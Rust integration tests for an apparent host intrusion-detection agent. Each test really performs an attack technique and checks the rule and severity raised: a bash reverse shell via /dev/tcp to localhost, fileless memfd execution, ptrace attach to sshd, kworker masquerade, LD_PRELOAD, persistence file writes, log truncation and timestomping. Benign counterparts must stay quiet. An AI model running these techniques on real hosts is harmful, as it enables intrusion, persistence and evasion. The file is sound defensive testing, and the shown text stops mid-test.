//! The default detection rules, each caught by performing its technique for real on this
//! machine (as `nobody` where an unprivileged attacker would do it), with the rule, severity and
//! process the operator sees; and benign counterparts that must stay quiet.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use futures_util::StreamExt;
use sec_tracker_proto::v1::subscribe_response::Item;
use sec_tracker_proto::v1::{event, Event, EventType, Severity, SubscribeResponse};
use sec_tracker_testkit::{as_nobody, require_root, Daemon};
use tonic::Streaming;

const BIN: &str = env!("CARGO_BIN_EXE_collectord");

fn tag(name: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("st-{name}-{}-{nanos}", std::process::id())
}

/// One test at a time: each watches /etc and /usr/bin, and would see the others' changes.
static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

/// collectord watching /etc, /usr/bin, /var/log and `extra`, with the process and network
/// monitors (what the default rules need), once every monitor runs.
async fn daemon(extra: &Path) -> Daemon {
    let config = format!(
        r#"{{"agent": {{"state_dir": "@STATE@"}}, "monitoring": {{"auth_monitor": false,
            "system_info": false, "scan_interval": "200ms",
            "watch_paths": ["/etc", "/usr/bin", "/var/log", "{}"]}}}}"#,
        extra.display()
    );
    let d = Daemon::start(Path::new(BIN), &config);
    d.until_running().await;
    d
}

/// Reads events until one satisfies `want`; fails at the deadline, listing what came.
async fn expect(
    s: &mut Streaming<SubscribeResponse>,
    what: &str,
    want: impl Fn(&Event) -> bool,
) -> Event {
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut seen = Vec::new();
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, s.next()).await {
            Ok(Some(Ok(r))) => {
                if let Some(Item::Event(e)) = r.item {
                    if want(&e) {
                        return e;
                    }
                    seen.push(format!(
                        "[{}] {} {}",
                        e.rule_id,
                        e.severity().as_str_name(),
                        e.message
                    ));
                }
            }
            _ => panic!(
                "{what}: not seen within 20 s; saw:\n{}",
                seen[seen.len().saturating_sub(30)..].join("\n")
            ),
        }
    }
}

fn path_of(e: &Event) -> Vec<u8> {
    match &e.details {
        Some(event::Details::File(f)) => f.path.clone(),
        _ => Vec::new(),
    }
}

fn is_file(e: &Event, path: &Path) -> bool {
    path_of(e) == path.as_os_str().as_encoded_bytes()
}

fn exe_is(e: &Event, exe: &Path) -> bool {
    match &e.details {
        Some(event::Details::Process(p)) => p.exe == exe.as_os_str().as_encoded_bytes(),
        _ => false,
    }
}

fn mentions(e: &Event, t: &str) -> bool {
    match &e.details {
        Some(event::Details::Process(p)) => p.argv.iter().any(|a| a == t.as_bytes()),
        _ => false,
    }
}

/// A real Debian package `name` (built in `dir` with dpkg-deb) installing /usr/bin/`name`.
fn package_with_a_binary(dir: &Path, name: &str) -> PathBuf {
    let root = dir.join("pkg");
    std::fs::create_dir_all(root.join("DEBIAN")).unwrap();
    std::fs::create_dir_all(root.join("usr/bin")).unwrap();
    std::fs::copy("/bin/true", root.join("usr/bin").join(name)).unwrap();
    std::fs::write(
        root.join("DEBIAN/control"),
        format!("Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\nDescription: sec-tracker test\n"),
    )
    .unwrap();
    let deb = dir.join("p.deb");
    let out = Command::new("dpkg-deb")
        .args(["--build", "--root-owner-group"])
        .arg(&root)
        .arg(&deb)
        .output()
        .unwrap();
    assert!(out.status.success(), "dpkg-deb: {out:?}");
    deb
}

/// A scratch directory outside /tmp, removed afterwards.
fn scratch() -> tempfile::TempDir {
    std::fs::create_dir_all("/var/lib/st-rules-tests").unwrap();
    tempfile::Builder::new()
        .prefix("t")
        .tempdir_in("/var/lib/st-rules-tests")
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn programs_run_from_tmp_or_memory_are_critical_and_from_home_are_not() {
    if !require_root("rules_exec") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::Process], false).await;
    // The technique: nobody drops a payload in /tmp and runs it.
    let drop = tempfile::Builder::new()
        .prefix("st-drop")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(drop.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let payload = drop.path().join("payload");
    std::fs::copy("/bin/sleep", &payload).unwrap();
    // (The path is this run's own: it names the payload.)
    assert!(as_nobody(&payload, None)
        .arg("0.2")
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "payload run from /tmp", |e| exe_is(e, &payload)).await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("exec-from-writable-dir", Severity::Critical)
    );
    assert_eq!(e.mitre, ["T1204.002", "T1059"]);
    // From memory: a memfd executed (fileless).
    let t = tag("memfd");
    let script = format!(
        "import os\nfd = os.memfd_create('st', 0)\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['st', '{t}'])"
    );
    assert!(as_nobody(Path::new("/usr/bin/python3"), None)
        .args(["-c", &script])
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "a memfd run", |e| mentions(e, &t)).await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("exec-from-memory", Severity::Critical),
        "{e:?}"
    );
    // A kernel module tool run by hand (a dry run: nothing is loaded).
    let t = tag("modprobe");
    let modprobe = ["/usr/sbin/modprobe", "/sbin/modprobe"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("modprobe (kmod) is installed");
    let _ = Command::new(modprobe).args(["-n", "-q", &t]).status();
    let e = expect(&mut s, "modprobe run", |e| mentions(e, &t)).await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("kernel-module-tool", Severity::Warning),
        "{e:?}"
    );
    // Benign: a program built and run under a home-like directory stays INFO.
    let home = dir.path().join("home/alice/target");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::copy("/bin/sleep", home.join("app")).unwrap();
    assert!(Command::new(home.join("app"))
        .arg("0.2")
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "a program run from home", |e| {
        exe_is(e, &home.join("app"))
    })
    .await;
    assert_eq!((e.rule_id.as_str(), e.severity()), ("", Severity::Info));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn persistence_and_privilege_files_are_caught_and_plain_config_is_a_warning() {
    if !require_root("rules_persistence") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let t = tag("p");
    // (file to write, expected rule, severity); each written, then removed.
    let cases: Vec<(PathBuf, &str, Severity)> = vec![
        (
            format!("/etc/sudoers.d/{t}").into(),
            "sudoers-changed",
            Severity::Critical,
        ),
        (
            "/etc/ld.so.preload".into(),
            "ld-so-preload-changed",
            Severity::Critical,
        ),
        (
            format!("/etc/cron.d/{t}").into(),
            "cron-persistence",
            Severity::Warning,
        ),
        (
            format!("/etc/systemd/system/{t}.service").into(),
            "systemd-persistence",
            Severity::Warning,
        ),
        (
            format!("/etc/profile.d/{t}.sh").into(),
            "shell-profile-changed",
            Severity::Warning,
        ),
        (
            format!("/etc/.{t}").into(),
            "hidden-file-in-system-dir",
            Severity::Warning,
        ),
        (
            dir.path().join("home/eve/.ssh/authorized_keys"),
            "authorized-keys-changed",
            Severity::Warning,
        ),
        (
            format!("/etc/pam.d/{t}").into(),
            "pam-config-changed",
            Severity::Critical,
        ),
        (
            format!("/etc/ssh/sshd_config.d/{t}.conf").into(),
            "sshd-config-changed",
            Severity::Warning,
        ),
        (
            format!("/etc/init.d/{t}").into(),
            "init-script-persistence",
            Severity::Warning,
        ),
        (
            format!("/etc/{t}.conf").into(),
            "etc-changed",
            Severity::Warning,
        ),
    ];
    assert!(
        !Path::new("/etc/ld.so.preload").exists(),
        "this test would replace /etc/ld.so.preload"
    );
    // Their directories exist before collectord watches, as on a real host.
    let mut made = Vec::new();
    for (path, ..) in &cases {
        let parent = path.parent().unwrap();
        if !parent.exists() {
            std::fs::create_dir_all(parent).unwrap();
            made.push(parent.to_path_buf());
        }
    }
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::File], false).await;
    for (path, rule, severity) in &cases {
        // An empty ld.so.preload loads nothing: safe to create for a moment.
        std::fs::write(
            path,
            if *rule == "ld-so-preload-changed" {
                ""
            } else {
                "# sec-tracker test\n"
            },
        )
        .unwrap();
        let e = expect(&mut s, &format!("{} written", path.display()), |e| {
            is_file(e, path) && !e.rule_id.is_empty()
        })
        .await;
        assert_eq!(
            (e.rule_id.as_str(), e.severity()),
            (*rule, *severity),
            "{}",
            path.display()
        );
        let f = match &e.details {
            Some(event::Details::File(f)) => f.clone(),
            _ => unreachable!(),
        };
        assert!(
            f.pid > 0 && f.entity_id.len() == 32,
            "the writer is named: {f:?}"
        );
        std::fs::remove_file(path).unwrap();
    }
    for m in made.iter().filter(|m| m.starts_with("/etc")) {
        let _ = std::fs::remove_dir(m);
    }
}

/// Creates a user and removes it: the account database changes (CRITICAL), by useradd.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_account_added_is_critical_and_names_useradd() {
    if !require_root("rules_account") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::File], false).await;
    let user = format!("st{}", std::process::id() % 100_000);
    assert!(Command::new("useradd")
        .args(["-M", "-s", "/usr/sbin/nologin", &user])
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "/etc/passwd changed", |e| {
        is_file(e, Path::new("/etc/passwd")) || is_file(e, Path::new("/etc/shadow"))
    })
    .await;
    let _ = Command::new("userdel").arg(&user).status();
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("account-database-changed", Severity::Critical)
    );
    assert_eq!(e.mitre, ["T1136.001", "T1098"]);
}

/// A program copied into /usr/bin by hand is CRITICAL; the same file installed by dpkg is not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binary_planted_in_usr_bin_is_critical_and_a_package_install_is_quiet() {
    if !require_root("rules_system_binary") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::File], false).await;
    let name = format!("st-planted-{}", std::process::id());
    let planted = PathBuf::from("/usr/bin").join(&name);
    assert!(Command::new("cp")
        .arg("/bin/true")
        .arg(&planted)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "the planted binary", |e| is_file(e, &planted)).await;
    std::fs::remove_file(&planted).unwrap();
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("system-binary-changed", Severity::Critical)
    );
    // A real package, installed and removed by dpkg.
    let pkg = format!("st-benign-{}", std::process::id());
    let deb = package_with_a_binary(dir.path(), &pkg);
    assert!(Command::new("dpkg")
        .arg("-i")
        .arg(&deb)
        .output()
        .unwrap()
        .status
        .success());
    let installed = PathBuf::from("/usr/bin").join(&pkg);
    let e = expect(&mut s, "the packaged binary", |e| is_file(e, &installed)).await;
    let _ = Command::new("dpkg").args(["--purge", &pkg]).output();
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("", Severity::Info),
        "{e:?}"
    );
}

/// A shell or interpreter listening is a bind shell (CRITICAL); another program's new port is a
/// WARNING.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interpreter_listening_is_a_bind_shell() {
    if !require_root("rules_bind_shell") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::Network], false).await;
    let mut shell = as_nobody(Path::new("/usr/bin/python3"), None)
        .args(["-c", "import socket,time\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint(s.getsockname()[1], flush=True)\ntime.sleep(30)"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(shell.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let port: u32 = line.trim().parse().unwrap();
    let e = expect(&mut s, "python listening", |e| match &e.details {
        Some(event::Details::Network(n)) => n.local_port == port,
        _ => false,
    })
    .await;
    let _ = shell.kill();
    let _ = shell.wait();
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("bind-shell", Severity::Critical),
        "{}",
        e.message
    );
    // This test binary listening: a new port, not a shell.
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = u32::from(l.local_addr().unwrap().port());
    let e = expect(&mut s, "the test listening", |e| match &e.details {
        Some(event::Details::Network(n)) => n.local_port == port,
        _ => false,
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("new-listener", Severity::Warning)
    );
}

/// Login records moved away by hand are covering tracks (CRITICAL); logrotate rotating them is not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_records_moved_by_hand_are_critical_and_logrotate_is_quiet() {
    if !require_root("rules_log_tampering") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let btmp = Path::new("/var/log/btmp");
    let saved = dir.path().join("btmp.saved");
    if btmp.exists() {
        std::fs::copy(btmp, &saved).unwrap();
    } else {
        std::fs::write(btmp, b"").unwrap();
    }
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::File], false).await;
    let aside = dir.path().join("btmp.gone");
    assert!(Command::new("mv")
        .arg(btmp)
        .arg("/var/log/btmp.st-aside")
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "btmp moved", |e| {
        is_file(e, Path::new("/var/log/btmp.st-aside"))
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("auth-log-removed", Severity::Critical),
        "{e:?}"
    );
    std::fs::rename("/var/log/btmp.st-aside", btmp).unwrap();
    let _ = aside;
    // logrotate rotating it.
    let conf = dir.path().join("logrotate.conf");
    std::fs::write(
        &conf,
        "/var/log/btmp {\n  rotate 1\n  create 0660 root utmp\n  missingok\n}\n",
    )
    .unwrap();
    let state = dir.path().join("logrotate.state");
    assert!(Command::new("logrotate")
        .arg("-f")
        .arg("-s")
        .arg(&state)
        .arg(&conf)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "btmp rotated", |e| {
        is_file(e, Path::new("/var/log/btmp.1"))
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("", Severity::Info),
        "{e:?}"
    );
    let _ = std::fs::remove_file("/var/log/btmp.1");
    if saved.exists() {
        std::fs::copy(&saved, btmp).unwrap();
    }
}

/// Puts a host file back as it was when the test ends, passed or not.
struct Restore {
    path: PathBuf,
    saved: Option<Vec<u8>>,
}

impl Restore {
    fn file(path: &Path) -> Restore {
        Restore {
            path: path.to_owned(),
            saved: std::fs::read(path).ok(),
        }
    }
}

impl Drop for Restore {
    fn drop(&mut self) {
        let _ = match &self.saved {
            Some(content) => std::fs::write(&self.path, content),
            None => std::fs::remove_file(&self.path),
        };
    }
}

fn process_of(e: &Event) -> Option<&sec_tracker_proto::v1::ProcessEvent> {
    match &e.details {
        Some(event::Details::Process(p)) => Some(p),
        _ => None,
    }
}

fn mentions_in(e: &Event, t: &str) -> bool {
    process_of(e).is_some_and(|p| {
        p.argv
            .iter()
            .any(|a| String::from_utf8_lossy(a).contains(t))
    })
}

fn named(e: &Event, name: &str) -> bool {
    process_of(e).is_some_and(|p| p.name == name)
}

fn action_is(e: &Event, action: sec_tracker_proto::v1::ProcessAction) -> bool {
    process_of(e).is_some_and(|p| p.action() == action)
}

/// Python with libc at hand, for the calls no tool here makes (ptrace, prctl).
const PY_LIBC: &str = "import ctypes, os, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\n";

/// A reverse shell, ptrace injection, a kernel-thread disguise and a library preloaded into a
/// root program, each done for real, and each one's benign twin: a shell on an ssh-like
/// socketpair, a program tracing its own child, a worker naming itself, nobody's preload.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reverse_shells_injection_and_disguises_are_caught_and_their_benign_twins_are_not() {
    use sec_tracker_proto::v1::ProcessAction;
    if !require_root("rules_process_tricks") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::Process], false).await;

    // Reverse shell: nobody's bash connects to the operator's listener (this test) and hands
    // it a shell reading from the connection.
    let c2 = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = c2.local_addr().unwrap().port();
    let t = tag("revshell");
    let mut shell = as_nobody(Path::new("/bin/bash"), None)
        .args([
            "-c",
            &format!("bash -c ': {t}; read line' >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        .spawn()
        .unwrap();
    let e = expect(&mut s, "the reverse shell", |e| {
        action_is(e, ProcessAction::Exec) && mentions_in(e, &t) && e.rule_id == "reverse-shell"
    })
    .await;
    // It connected before it ran: the connection waits in the backlog.
    let (mut conn, _) = c2.accept().unwrap();
    let p = process_of(&e).unwrap();
    assert_eq!(e.severity(), Severity::Critical);
    assert_eq!(p.stdio_socket, format!("tcp 127.0.0.1:{port}"));
    assert_eq!((p.name.as_str(), p.user.as_str()), ("bash", "nobody"));
    std::io::Write::write_all(&mut conn, b"bye\n").unwrap();
    assert!(shell.wait().unwrap().success());
    // Its twin: a shell whose stdio is a Unix socketpair, as sshd runs a command.
    let (ours, theirs) = std::os::unix::net::UnixStream::pair().unwrap();
    let t = tag("socketpair");
    let mut shell = Command::new("/bin/bash")
        .args(["-c", &format!(": {t}; read line; exit 0")])
        .stdin(std::process::Stdio::from(std::os::fd::OwnedFd::from(
            theirs,
        )))
        .spawn()
        .unwrap();
    let e = expect(&mut s, "a shell on a socketpair", |e| {
        action_is(e, ProcessAction::Exec) && mentions_in(e, &t)
    })
    .await;
    assert_eq!((e.rule_id.as_str(), e.severity()), ("", Severity::Info));
    assert_eq!(process_of(&e).unwrap().stdio_socket, "");
    drop(ours);
    assert!(shell.wait().unwrap().success());

    // ptrace: nobody attaches to another of nobody's programs (no Yama here to stop it).
    let mut victim = as_nobody(Path::new("/bin/sleep"), None)
        .arg("30")
        .spawn()
        .unwrap();
    let victim_pid = victim.id();
    expect(&mut s, "the victim started", |e| {
        named(e, "sleep") && process_of(e).is_some_and(|p| p.pid == victim_pid)
    })
    .await;
    let attach = format!(
        "{PY_LIBC}pid = int(sys.argv[1])\nif libc.ptrace(16, pid, 0, 0) != 0: sys.exit(ctypes.get_errno())\nos.waitpid(pid, 0x40000000)\nlibc.ptrace(17, pid, 0, 0)\n"
    );
    let mut injector = as_nobody(Path::new("/usr/bin/python3"), None)
        .args(["-c", &attach, &victim_pid.to_string()])
        .spawn()
        .unwrap();
    let injector_pid = injector.id();
    let e = expect(&mut s, "the ptrace attach", |e| {
        action_is(e, ProcessAction::PtraceAttach)
            && process_of(e).is_some_and(|p| p.pid == injector_pid)
    })
    .await;
    assert!(injector.wait().unwrap().success());
    let p = process_of(&e).unwrap();
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("ptrace-attach", Severity::Warning),
        "{e:?}"
    );
    let target = p.target.as_ref().unwrap();
    assert_eq!((target.pid, target.name.as_str()), (victim_pid, "sleep"));
    assert_eq!((p.name.as_str(), p.user.as_str()), ("python3", "nobody"));
    assert!(!p.target_is_descendant);
    let _ = victim.kill();
    let _ = victim.wait();
    // A root attacker reading sshd's memory: the target named as sshd is CRITICAL.
    let fake_sshd = dir.path().join("sshd");
    std::fs::copy("/bin/sleep", &fake_sshd).unwrap();
    let mut sshd = Command::new(&fake_sshd).arg("30").spawn().unwrap();
    let sshd_pid = sshd.id();
    expect(&mut s, "sshd started", |e| exe_is(e, &fake_sshd)).await;
    let mut injector = Command::new("/usr/bin/python3")
        .args(["-c", &attach, &sshd_pid.to_string()])
        .spawn()
        .unwrap();
    let injector_pid = injector.id();
    let e = expect(&mut s, "the attach to sshd", |e| {
        action_is(e, ProcessAction::PtraceAttach)
            && process_of(e).is_some_and(|p| p.pid == injector_pid)
    })
    .await;
    assert!(injector.wait().unwrap().success());
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("ptrace-credential-theft", Severity::Critical),
        "{e:?}"
    );
    let _ = sshd.kill();
    let _ = sshd.wait();
    // Its twin: a program tracing the child it started (a debugger, strace).
    let own = format!(
        "{PY_LIBC}pid = os.fork()\nif pid == 0:\n    time.sleep(1)\n    os._exit(0)\nif libc.ptrace(16, pid, 0, 0) != 0: sys.exit(ctypes.get_errno())\nos.waitpid(pid, 0x40000000)\nlibc.ptrace(17, pid, 0, 0)\nos.waitpid(pid, 0)\n"
    );
    let mut debugger = as_nobody(Path::new("/usr/bin/python3"), None)
        .args(["-c", &own])
        .spawn()
        .unwrap();
    let debugger_pid = debugger.id();
    let e = expect(&mut s, "a program tracing its child", |e| {
        action_is(e, ProcessAction::PtraceAttach)
            && process_of(e).is_some_and(|p| p.pid == debugger_pid)
    })
    .await;
    assert!(debugger.wait().unwrap().success());
    assert_eq!((e.rule_id.as_str(), e.severity()), ("", Severity::Info));
    assert!(process_of(&e).unwrap().target_is_descendant);

    // A disguise: nobody's program renames itself as a kernel worker thread.
    for (name, rule, severity) in [
        (
            "[kworker/0:7]",
            "kernel-thread-masquerade",
            Severity::Critical,
        ),
        ("st-worker", "", Severity::Info),
    ] {
        let rename =
            format!("{PY_LIBC}libc.prctl(15, sys.argv[1].encode(), 0, 0, 0)\ntime.sleep(0.2)\n");
        let mut p = as_nobody(Path::new("/usr/bin/python3"), None)
            .args(["-c", &rename, name])
            .spawn()
            .unwrap();
        let pid = p.id();
        let e = expect(&mut s, &format!("the rename to {name}"), |e| {
            action_is(e, ProcessAction::Renamed) && process_of(e).is_some_and(|p| p.pid == pid)
        })
        .await;
        assert!(p.wait().unwrap().success());
        assert_eq!(
            (e.rule_id.as_str(), e.severity()),
            (rule, severity),
            "{e:?}"
        );
        let ev = process_of(&e).unwrap();
        assert_eq!((ev.name.as_str(), ev.old_name.as_str()), (name, "python3"));
    }

    // LD_PRELOAD into a program running as root (an environment planted in a root service):
    // CRITICAL; the same by nobody for nobody's program is not looked at.
    for (root, rule, severity) in [
        (true, "ld-preload-privileged", Severity::Critical),
        (false, "", Severity::Info),
    ] {
        let t = tag("preload");
        let lib = format!("/var/tmp/{t}.so");
        let mut c = if root {
            Command::new("/usr/bin/env")
        } else {
            as_nobody(Path::new("/usr/bin/env"), None)
        };
        let status = c
            .arg(format!("LD_PRELOAD={lib}"))
            .args(["/bin/sh", "-c", &format!(": {t}; sleep 0.3")])
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.success());
        let e = expect(&mut s, "the preloaded program", |e| {
            action_is(e, ProcessAction::Exec) && mentions_in(e, &t) && named(e, "sh")
        })
        .await;
        assert_eq!(
            (e.rule_id.as_str(), e.severity()),
            (rule, severity),
            "{e:?}"
        );
        let seen = &process_of(&e).unwrap().ld_preload;
        if root {
            assert_eq!(seen, lib.as_bytes());
        } else {
            assert!(seen.is_empty());
        }
    }
}

/// Covering tracks in place: login records truncated by hand (CRITICAL) and by logrotate's
/// copytruncate (quiet); a file's time set back by nobody (WARNING) and moved forward (quiet).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn records_truncated_by_hand_and_times_set_back_are_caught() {
    if !require_root("rules_tracks") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let btmp = Path::new("/var/log/btmp");
    let _restore = Restore::file(btmp);
    std::fs::write(btmp, [7u8; 384]).unwrap();
    // nobody's own corner of a watched tree.
    let corner = dir.path().join("uploads");
    std::fs::create_dir(&corner).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&corner, std::fs::Permissions::from_mode(0o777)).unwrap();
    let file = corner.join("report.txt");
    std::fs::write(&file, b"x").unwrap();
    std::os::unix::fs::chown(&file, Some(65534), Some(65534)).unwrap();

    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[EventType::File], false).await;
    assert!(Command::new("truncate")
        .args(["-s", "0"])
        .arg(btmp)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "btmp truncated", |e| {
        is_file(e, btmp) && !e.rule_id.is_empty()
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("auth-log-truncated", Severity::Critical),
        "{e:?}"
    );
    match &e.details {
        Some(event::Details::File(f)) => {
            assert_eq!((f.size_before, f.size), (384, 0));
            assert!(f.exe.ends_with(b"/truncate"), "{f:?}");
        }
        _ => unreachable!(),
    }
    // Its twin: logrotate with copytruncate.
    std::fs::write(btmp, [7u8; 384]).unwrap();
    expect(&mut s, "btmp written again", |e| {
        is_file(e, btmp) && matches!(&e.details, Some(event::Details::File(f)) if f.size == 384)
    })
    .await;
    let conf = dir.path().join("logrotate.conf");
    std::fs::write(
        &conf,
        "/var/log/btmp {\n  rotate 1\n  copytruncate\n  missingok\n}\n",
    )
    .unwrap();
    assert!(Command::new("logrotate")
        .arg("-f")
        .arg("-s")
        .arg(dir.path().join("logrotate.state"))
        .arg(&conf)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "btmp truncated by logrotate", |e| {
        is_file(e, btmp) && matches!(&e.details, Some(event::Details::File(f)) if f.size == 0)
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("", Severity::Info),
        "{e:?}"
    );
    let _ = std::fs::remove_file("/var/log/btmp.1");

    // Timestomping: nobody sets their file's time back ten years.
    assert!(as_nobody(Path::new("/usr/bin/touch"), None)
        .args(["-d", "2015-06-01 12:00"])
        .arg(&file)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "the time set back", |e| {
        is_file(e, &file) && !e.rule_id.is_empty()
    })
    .await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("timestomp", Severity::Warning),
        "{e:?}"
    );
    match &e.details {
        Some(event::Details::File(f)) => {
            assert!(f.mtime_ns < f.mtime_before_ns, "{f:?}");
            assert_eq!(f.user, "nobody");
            assert!(f.exe.ends_with(b"/touch"), "{f:?}");
        }
        _ => unreachable!(),
    }
    // Its twin: touched to now, which every write does: no event of its own, and the next
    // change of the file (a chmod) is plain.
    assert!(as_nobody(Path::new("/usr/bin/touch"), None)
        .arg(&file)
        .status()
        .unwrap()
        .success());
    assert!(as_nobody(Path::new("/usr/bin/chmod"), None)
        .arg("600")
        .arg(&file)
        .status()
        .unwrap()
        .success());
    let e = expect(&mut s, "the next change", |e| is_file(e, &file)).await;
    assert_eq!(
        (e.rule_id.as_str(), e.severity()),
        ("", Severity::Info),
        "{e:?}"
    );
    match &e.details {
        Some(event::Details::File(f)) => assert_eq!(f.mode, 0o600, "{f:?}"),
        _ => unreachable!(),
    }
}

/// A day of ordinary administration under the default rules: a sudo the sudoers allow, su, a
/// package installed and removed, a log rotated, a program compiled in /tmp and run from a home
/// directory, sshd listening. No CRITICAL; the WARNINGs are listed (and few).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_day_of_ordinary_administration_raises_no_critical() {
    if !require_root("rules_benign_day") {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().await;
    let dir = scratch();
    let t = tag("day");
    // Set up before the agent runs, as on a host: nobody may run /bin/true as root.
    let sudoers = PathBuf::from(format!("/etc/sudoers.d/{t}"));
    let _remove_sudoers = Restore::file(&sudoers);
    std::fs::write(&sudoers, "nobody ALL=(root) NOPASSWD: /bin/true\n").unwrap();
    std::fs::set_permissions(&sudoers, std::fs::Permissions::from_mode(0o440)).unwrap();
    let log = PathBuf::from(format!("/var/log/{t}.log"));
    let _remove_log = Restore::file(&log);
    let _remove_rotated = Restore::file(&log.with_extension("log.1.gz"));
    std::fs::write(&log, b"a line\n").unwrap();
    let d = daemon(dir.path()).await;
    let mut s = d.subscribe(&[], false).await;
    let run = |c: &mut Command| {
        let out = c.output().unwrap();
        assert!(out.status.success(), "{c:?}: {out:?}");
    };

    // An allowed sudo by a user, and root using su to act as another.
    run(as_nobody(Path::new("/usr/bin/sudo"), None).args(["-n", "/bin/true"]));
    run(Command::new("su").args(["nobody", "-s", "/bin/sh", "-c", "true"]));
    // A package installed and removed by dpkg.
    let pkg = format!("st-day-{}", std::process::id());
    let deb = package_with_a_binary(dir.path(), &pkg);
    run(Command::new("dpkg").arg("-i").arg(&deb));
    run(Command::new("dpkg").args(["--purge", &pkg]));
    // logrotate rotating (and compressing) a log.
    let conf = dir.path().join("logrotate.conf");
    std::fs::write(
        &conf,
        format!(
            "{} {{\n  rotate 1\n  create 0640 root root\n  compress\n}}\n",
            log.display()
        ),
    )
    .unwrap();
    run(Command::new("logrotate")
        .arg("-f")
        .arg("-s")
        .arg(dir.path().join("logrotate.state"))
        .arg(&conf));
    // A program compiled in /tmp, run from the build directory under a home.
    let build = tempfile::Builder::new()
        .prefix("st-build")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::write(
        build.path().join("hello.c"),
        "int main(void) { return 0; }\n",
    )
    .unwrap();
    let home = dir.path().join("home/alice/build");
    std::fs::create_dir_all(&home).unwrap();
    run(Command::new("cc")
        .current_dir(build.path())
        .args(["-o"])
        .arg(home.join("hello"))
        .arg("hello.c"));
    run(&mut Command::new(home.join("hello")));
    // sshd listening on a spare port (until the network monitor has seen it).
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut sshd = Command::new("/usr/sbin/sshd")
